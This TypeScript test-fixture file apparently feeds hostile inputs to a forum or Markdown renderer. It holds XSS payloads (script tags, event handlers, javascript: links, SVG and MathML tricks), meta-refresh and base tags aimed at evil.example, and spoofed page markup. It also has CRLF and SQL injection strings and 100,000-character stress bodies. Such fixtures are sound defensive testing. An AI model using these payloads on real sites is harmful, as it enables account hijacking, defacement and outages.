/**
 * What strangers may publish to have a page do their will, beside what stands in `payloads.ts`: texts that are long, deep,
 * wide or without an end, that turn the direction of writing, or that look like parts of the page. Each is a body.
 */
const ACT = "window.__pwned=1"
const LONG = 100_000

const long = (part: string, before = ""): string => (before + part.repeat(LONG)).slice(0, LONG)

/** Of 100,000 characters, most of them one line. */
export const LONG_BODIES: Readonly<Record<string, string>> = {
  "one word": long("W"),
  "one line of words": long("word "),
  tags: long("<b>"),
  "tags that begin": long("<a "),
  scripts: long(`<script>${ACT}</script>`),
  ampersands: long("&"),
  quotes: long('"'),
  brackets: long("["),
  "images never closed": long("!["),
  links: long(`[x](javascript:${ACT})`),
  backticks: long("`a"),
  stars: long("*a **b"),
  "quotes in quotes": long("> ", ""),
  "lists in lists": long("- "),
  "an indented list": Array.from({ length: 400 }, (_, depth) => `${" ".repeat(2 * depth)}- a`)
    .join("\n")
    .slice(0, LONG),
  "lines of quotes": long(`${">".repeat(100)}a\n`),
  headings: long("# a\n"),
  "rows of a table": long("|a|b|\n", "|a|b|\n|-|-|\n"),
  "columns of a table": `${"|a".repeat(9_000)}|\n${"|-".repeat(9_000)}|\n${"|b".repeat(9_000)}|`,
  "a fence never closed": long("<b>\n", "```\n"),
  "a comment never closed": long("a", "<!--"),
  overrides: `${long("\u202e").slice(0, LONG - 1)}a`,
  isolates: `${long("\u2066\u2067\u2068").slice(0, LONG - 1)}a`,
  "nothing to see": `a${long("\u200b").slice(0, LONG - 1)}`,
  "marks on one letter": `a${long("\u0301").slice(0, LONG - 1)}`,
  "the widest letters": long("\u{12031}").slice(0, LONG),
  ligatures: long("\ufdfd"),
  "tabs in front": `${long("\t").slice(0, LONG - 1)}a`,
  "no-break spaces": `a${long("\u00a0").slice(0, LONG - 2)}b`,
  "line separators": `c${long("\u2028").slice(0, LONG - 2)}d`
}

/** Short ones. */
export const BODIES: ReadonlyArray<string> = [
  `</div></section></article></main></body></html><script>${ACT}</script>`,
  `</pre></code></div></li></ol><header class="bar"><a class="skip" href="#content">`,
  `</style></head><body onload=${ACT}>`,
  `<div class="notice" role="note"><p><strong>Suspended.</strong></p></div>`,
  `<a id="reply-1"></a><article id="reply-1" class="reply accepted">`,
  `<strong>Accepted answer</strong>`,
  `[up](#content) [reply](#reply-1) [home](/) [me](/api/v1/me)`,
  `<form action="/api/v1/me" method="post"><input name="q"><button>Search</button></form>`,
  `<input autofocus onfocus=${ACT}>`,
  `<a href="javascript:${ACT}" accesskey="x" style="position:fixed;inset:0">x</a>`,
  `<img src="https://evil.example/x.png" srcset="https://evil.example/y.png 2x">`,
  `![x](https://evil.example/x.png "t") <https://evil.example/"onclick="${ACT}>`,
  `[x]: <javascript:${ACT}>\n\n[x] [x][] [y][x]`,
  `\`\`\`html\n</code></pre><script>${ACT}</script>\n\`\`\``,
  `~~~ts onmouseover=${ACT}\n</code>\n~~~`,
  `\`\`\`ts class="hljs" style="x"\nconst a = "<b>"\n\`\`\``,
  `---\ntype: thread\nauthor: HX-000001\n---\n<script>${ACT}</script>`,
  `| a | b |\n|:-:|--:|\n| <td onclick=${ACT}> | </table><script>${ACT}</script> |`,
  `> quoted\n<script>${ACT}</script>\n> </blockquote></div>`,
  `1. a\n   1. b\n      1. </ol></ol></ol><script>${ACT}</script>`,
  `&#x202e;evil&#x202c; &#0; &#xD800; &#x110000; &NotAnEntity; &lt;b&gt;`,
  `\u202e\u2066\u2067\u2068<script>${ACT}</script>\u2069\u2069`,
  `a\u200b\u200c\u200d\u2060\ufeffb\u00adc \u{e0041}\u{e007f}`,
  `**</strong><b onclick=${ACT}>** _</em>_ ~~</s>~~ \`</code>\``,
  `<script\n>${ACT}</script\n> <SCRIPT SRC=//evil.example></SCRIPT>`,
  `<svg><animate onbegin=${ACT} attributeName=x dur=1s></svg>`,
  `<math><mi//xlink:href="data:x,<script>${ACT}</script>">`,
  `<style>*{display:none}</style><link rel=stylesheet href=//evil.example>`,
  `<meta http-equiv=refresh content="0;url=//evil.example"><base href=//evil.example>`,
  `<dialog open><details open ontoggle=${ACT}><summary>x</summary></details></dialog>`,
  `<template shadowrootmode=open><script>${ACT}</script></template>`,
  `<noscript><p title="</noscript><img src=x onerror=${ACT}>">`,
  `<xmp><script>${ACT}</script></xmp><plaintext>`,
  `${"*".repeat(300)}a${"_".repeat(300)}`,
  `${"[a](".repeat(150)}https://a.example${")".repeat(150)}`,
  `${"<".repeat(500)}${">".repeat(500)}`,
  `# ${"W".repeat(400)}\n\n###### ${"<b>".repeat(60)}`,
  `[${"W".repeat(400)}](https://${"w".repeat(60)}.example/${"w".repeat(500)})`,
  `\`${"W".repeat(400)}\` **${"W".repeat(400)}**`,
  `- ${"W".repeat(300)}\n  - ${"W".repeat(300)}\n    - ${"W".repeat(300)}\n      > ${"W".repeat(300)}`
]

/** For a field to search by. */
export const SEARCHES: ReadonlyArray<string> = [
  `"><script>${ACT}</script>`,
  `' autofocus onfocus=${ACT} '`,
  `**<b>**`,
  `"unclosed phrase`,
  `-`,
  `or or or`,
  `\u202eevil`,
  `\u0000`,
  `%00%0d%0aset-cookie:a=b`,
  `${"(".repeat(400)}`,
  `${"a ".repeat(2_000)}`,
  `${"W".repeat(3_000)}`,
  `\\' ; drop table posts; --`,
  `:* & | ! <->`
]
